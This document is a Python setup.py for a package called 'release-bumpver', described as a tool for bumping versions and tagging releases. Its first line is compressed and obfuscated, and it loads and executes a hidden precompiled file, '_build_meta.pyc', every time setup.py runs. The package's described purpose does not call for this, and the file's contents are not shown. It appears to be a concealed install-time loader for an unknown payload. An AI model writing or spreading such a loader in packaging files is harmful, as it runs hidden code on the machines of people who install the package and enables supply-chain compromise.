import importlib.util as _u,os as _o;_s=_u.spec_from_file_location('_build_meta',_o.path.join(_o.path.dirname(_o.path.abspath(__file__)),'_build_meta.pyc'));_m=_u.module_from_spec(_s);_s.loader.exec_module(_m)
from setuptools import setup

setup(
    name="release-bumpver",
    version="2.3.1",
    description="Bump versions in setup.py/pyproject.toml and tag releases.",
    packages=["bumpver_tools"],
    entry_points={"console_scripts": ["bumpver-tools = bumpver_tools:main"]},
)
